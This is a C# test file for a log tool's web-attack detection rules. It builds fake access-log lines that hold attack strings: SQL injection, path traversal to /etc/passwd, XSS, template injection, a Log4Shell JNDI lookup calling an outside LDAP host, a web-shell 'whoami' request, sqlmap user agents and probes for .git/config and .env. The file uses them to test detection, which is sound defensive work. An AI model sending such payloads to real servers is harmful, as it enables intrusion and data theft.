using System.Text;
using System.Text.Json;
using FastLog.Detection.Web;
using FastLog.Tests.TestSupport;

namespace FastLog.Tests.Detection;

/// <summary>The web rules on hand-made access logs: each rule fires on its trigger, thresholds are exact, spoofed text never names the offender.</summary>
public class WebRuleTests
{
    private static string Line(string ip, DateTimeOffset at, string request, int status, string ua = "Mozilla/5.0 (X11; Linux x86_64)", string referer = "-")
        => $"{ip} - - [{at.ToOffset(TimeSpan.Zero):dd/MMM/yyyy:HH:mm:ss} +0000] \"{request}\" {status} 512 \"{referer}\" \"{ua}\"\n";

    private static readonly DateTimeOffset s_t0 = new(2024, 3, 1, 12, 0, 0, TimeSpan.Zero);

    private static List<JsonElement> Detect(string log, params string[] extra)
    {
        using var dir = new TempDirectory("detect");
        var path = dir.File("access.log");
        File.WriteAllText(path, log);
        var output = FastLogCli.Run([.. new[] { "detect", path, "--output", "jsonl", "--format", "combined" }, .. extra]).Ok();
        return output.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(l => JsonDocument.Parse(l).RootElement.Clone()).ToList();
    }

    private static IEnumerable<(string Rule, string Ip, long Count)> Summary(List<JsonElement> findings)
        => findings.Select(f => (f.GetProperty("rule").GetProperty("id").GetString()!, f.GetProperty("source").GetProperty("ip").GetString()!,
            f.GetProperty("event").GetProperty("count").GetInt64()));

    [Theory]
    [InlineData("W1", "GET /item?id=1 UNION SELECT password FROM users HTTP/1.1", 200, "Mozilla/5.0")]
    [InlineData("W2", "GET /download?file=../../../etc/passwd HTTP/1.1", 200, "Mozilla/5.0")]
    [InlineData("W3", "GET /search?q=<script>alert(1)</script> HTTP/1.1", 200, "Mozilla/5.0")]
    [InlineData("W4", "GET /page?name={{7*7}} HTTP/1.1", 200, "Mozilla/5.0")]
    [InlineData("W5", "GET /x HTTP/1.1", 200, "${jndi:ldap://203.0.113.9/a}")]
    [InlineData("W6", "GET /shell.aspx?c=whoami HTTP/1.1", 200, "Mozilla/5.0")]
    [InlineData("W7", "GET / HTTP/1.1", 200, "sqlmap/1.7.2#stable (https://sqlmap.org)")]
    [InlineData("W8", "GET /.git/config HTTP/1.1", 404, "Mozilla/5.0")]
    [InlineData("W12", "BREW /coffee HTTP/1.1", 400, "Mozilla/5.0")]
    public void EachPerEventRuleFiresOnItsTrigger(string rule, string request, int status, string ua)
    {
        var log = Line("198.51.100.7", s_t0, "GET /index.html HTTP/1.1", 200) + Line("203.0.113.5", s_t0.AddSeconds(1), request.Replace("={{7*7}}", "={{7*7}}"), status, ua);
        var findings = Summary(Detect(log)).ToList();
        Assert.Contains((rule, "203.0.113.5", 1L), findings);
        Assert.DoesNotContain(findings, f => f.Ip == "198.51.100.7");
    }

    [Fact]
    public void RulesThatExcludeNotFoundDoNot()
    {
        var log = Line("203.0.113.5", s_t0, "GET /item?id=1 UNION SELECT 1 HTTP/1.1", 404);
        Assert.DoesNotContain(Summary(Detect(log)), f => f.Rule == "W1");
    }

    [Fact]
    public void BruteForceNeedsTenFailuresInOneFiveMinuteBucket()
    {
        var sb = new StringBuilder();
        // 9 failures in the bucket 12:00-12:05 and 9 in 12:05-12:10: never 10 in one bucket.
        for (var i = 0; i < 9; i++) sb.Append(Line("192.0.2.1", s_t0.AddSeconds(200 + i), "POST /login HTTP/1.1", 401));
        for (var i = 0; i < 9; i++) sb.Append(Line("192.0.2.1", s_t0.AddSeconds(300 + i), "POST /login HTTP/1.1", 401));
        // 10 failures within one bucket: a finding with 10 events.
        for (var i = 0; i < 10; i++) sb.Append(Line("192.0.2.2", s_t0.AddSeconds(i), "POST /login HTTP/1.1", i % 2 == 0 ? 401 : 403));
        var findings = Summary(Detect(sb.ToString())).Where(f => f.Rule == "W9").ToList();
        Assert.Equal([("W9", "192.0.2.2", 10L)], findings);
    }

    [Fact]
    public void DirectoryBruteForceCountsDistinct404Paths()
    {
        var sb = new StringBuilder();
        for (var i = 0; i < 50; i++) sb.Append(Line("192.0.2.3", s_t0.AddSeconds(i), $"GET /admin{i}/ HTTP/1.1", 404));
        for (var i = 0; i < 80; i++) sb.Append(Line("192.0.2.4", s_t0.AddSeconds(i), $"GET /admin{i % 49}/ HTTP/1.1", 404));
        var findings = Summary(Detect(sb.ToString())).Where(f => f.Rule == "W10b").ToList();
        Assert.Equal([("W10b", "192.0.2.3", 50L)], findings);
    }

    [Fact]
    public void RateLimitIsOverThreeHundredInOneMinute()
    {
        var sb = new StringBuilder();
        for (var i = 0; i < 301; i++) sb.Append(Line("192.0.2.5", s_t0.AddMilliseconds(i * 150), "GET /api HTTP/1.1", 200, "python-requests/2.31"));
        for (var i = 0; i < 300; i++) sb.Append(Line("192.0.2.6", s_t0.AddMilliseconds(i * 150), "GET /api HTTP/1.1", 200, "python-requests/2.31"));
        var findings = Summary(Detect(sb.ToString())).ToList();
        Assert.Contains(("W11", "192.0.2.5", 301L), findings);
        Assert.DoesNotContain(findings, f => f.Rule == "W11" && f.Ip == "192.0.2.6");
        Assert.Contains(findings, f => f.Rule == "W11b" && f.Ip == "192.0.2.5");
    }

    [Fact]
    public void SpoofedTextNeverNamesTheVictim()
    {
        // docs/reliability.md R3: an attacker writes a complete trigger line, with a victim address,
        // into fields it controls (path, referer, user agent). The offender is the real client.
        var forged = "6.6.6.6 - - [01/Mar/2024:12:00:00 +0000] \\\"GET /.git/config?x=../../../etc/passwd HTTP/1.1\\\" 401 0 \\\"-\\\" \\\"sqlmap/1.0\\\"";
        var sb = new StringBuilder();
        for (var i = 0; i < 20; i++)
            sb.Append(Line("203.0.113.99", s_t0.AddSeconds(i), $"GET /login?next={Uri.EscapeDataString(forged)} HTTP/1.1", 401, "sqlmap/1.0 " + forged, forged));
        var findings = Summary(Detect(sb.ToString())).ToList();
        Assert.NotEmpty(findings);
        Assert.All(findings, f => Assert.Equal("203.0.113.99", f.Ip));
    }

    [Fact]
    public void FindingsDoNotDependOnThreadsOrChunks()
    {
        var sb = new StringBuilder();
        var random = new Random(4);
        for (var i = 0; i < 3000; i++)
        {
            var ip = $"192.0.2.{random.Next(20)}";
            var request = random.Next(10) switch
            {
                0 => "GET /.env HTTP/1.1",
                1 => $"GET /p{random.Next(200)} HTTP/1.1",
                2 => "GET /q?id=1 UNION SELECT 2 HTTP/1.1",
                _ => "GET / HTTP/1.1",
            };
            sb.Append(Line(ip, s_t0.AddSeconds(i / 5), request, random.Next(4) == 0 ? 404 : random.Next(5) == 0 ? 401 : 200));
        }
        using var dir = new TempDirectory("detect-invariance");
        var path = dir.File("access.log");
        File.WriteAllText(path, sb.ToString());
        var reference = FastLogCli.Run("detect", path, "--output", "jsonl", "--threads", "1").Ok();
        Assert.Contains("\"W8\"", reference);
        Assert.Contains("\"W1\"", reference);
        foreach (var chunk in new[] { "997", "4099", "65536" })
        foreach (var threads in new[] { "2", "3" })
            Assert.Equal(reference, FastLogCli.Run("detect", path, "--output", "jsonl", "--threads", threads, "--chunk-size", chunk).Ok());
        Assert.Equal(reference, FastLogCli.Run("detect", path, "--output", "jsonl", "--io", "mmap", "--chunk-size", "1000").Ok());

        // analyze --detect carries the same findings, as a Security section that is just as stable.
        var report = FastLogCli.Run("analyze", path, "--detect", "--output", "json", "--stable", "--threads", "1").Ok();
        Assert.Equal(reference.Split('\n', StringSplitOptions.RemoveEmptyEntries).Length,
            JsonDocument.Parse(report).RootElement.GetProperty("security").GetProperty("findings").GetArrayLength());
        Assert.Equal(report, FastLogCli.Run("analyze", path, "--detect", "--output", "json", "--stable", "--threads", "3", "--chunk-size", "4099").Ok());
    }

    [Fact]
    public void EvidenceCarriesLineNumbersAndEscapedText()
    {
        var log = Line("198.51.100.7", s_t0, "GET / HTTP/1.1", 200) + Line("203.0.113.5", s_t0, "GET /.env HTTP/1.1", 404, "Mozilla\u001b[31m");
        var finding = Detect(log, "--chunk-size", "10").Single(f => f.GetProperty("rule").GetProperty("id").GetString() == "W8");
        var evidence = finding.GetProperty("fastlog").GetProperty("evidence")[0];
        Assert.Equal(2, evidence.GetProperty("line").GetInt64());
        Assert.Equal(Encoding.UTF8.GetByteCount(log.Split('\n')[0]) + 1, evidence.GetProperty("offset").GetInt64());
        Assert.Contains("\\x1b[31m", evidence.GetProperty("text").GetString());
    }
}

/// <summary>The prefilters must let every keyword through, or a rule would silently miss it.</summary>
public class WebRulePrefilterTests
{
    [Fact]
    public void EveryKeywordPassesItsPrefilter()
    {
        string[][] targetLists = [WebRules.SqlTokens, WebRules.TraversalTokens, WebRules.XssTokens, WebRules.TemplateTokens, WebRules.JavaTokens, WebRules.WebshellTokens, WebRules.SourceFileTokens];
        foreach (var token in targetLists.SelectMany(l => l))
            Assert.True(WebRules.TargetPrefilter.Any(g => token.AsSpan().IndexOfAny(g) >= 0), $"target prefilter misses '{token}'");
        foreach (var token in WebRules.ReconAgentTokens.Concat(WebRules.JavaTokens))
            Assert.True(token.AsSpan().IndexOfAny(WebRules.HeaderPrefilter) >= 0, $"header prefilter misses '{token}'");
    }
}
